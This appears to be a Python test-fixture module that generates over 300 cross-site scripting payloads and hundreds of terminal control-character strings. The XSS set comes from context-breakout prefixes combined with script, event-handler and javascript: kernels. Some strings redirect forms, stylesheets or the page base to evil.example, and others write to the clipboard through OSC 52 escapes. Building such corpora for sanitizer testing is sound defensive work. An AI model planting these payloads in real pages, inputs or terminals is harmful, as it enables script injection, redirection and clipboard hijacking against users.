"""Three hundred ways to break out of a text into a page, put together from places to break out of and things to run."""

from __future__ import annotations

BREAKS = (
    "",
    '">',
    "'>",
    '" ',
    "' ",
    "`>",
    "</title>",
    "</style>",
    "</script>",
    "</textarea>",
    "</select></option>",
    "</td></tr></table>",
    "</svg>",
    "-->",
    "]]>",
    '\\">',
    "}}",
    "%22%3E",
    '\x00">',
    '\u202e">',
)
KERNELS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "onfocus=alert(1) autofocus x=",
    "<form action=https://evil.example/><button>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<base href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "{{7*7}}{% raw %}${7*7}#{7*7}",
)
OTHERS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "https://evil.example/<script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<x style=background:url(https://evil.example/x)>",
    "<input autofocus onfocus=alert(1)>",
)
PAYLOADS = tuple(f"{before}{kernel}" for kernel in KERNELS for before in BREAKS) + OTHERS
assert len(set(PAYLOADS)) >= 300  # the bar that they are for

_STRETCHES = ((0x00, 0x20), (0x7F, 0xA0), (0x200B, 0x2010), (0x2028, 0x202F), (0x2060, 0x2070), (0xFFF9, 0xFFFC))
_SINGLE = (0xAD, 0x34F, 0x61C, 0x115F, 0x180E, 0x3164, 0xFEFF, 0xE0001, 0xD800)
_CODES = (*(code for first, end in _STRETCHES for code in range(first, end)), *_SINGLE)
TERMINAL = tuple(
    form.replace("@", chr(code))
    for code in _CODES
    for form in ("@[2J@[31mred", "a@b", "@]52;c;AAAA\x07", "@]8;;https://evil.example/@\\x", "txt.@exe")
)
assert len(set(TERMINAL)) >= 500  # as above
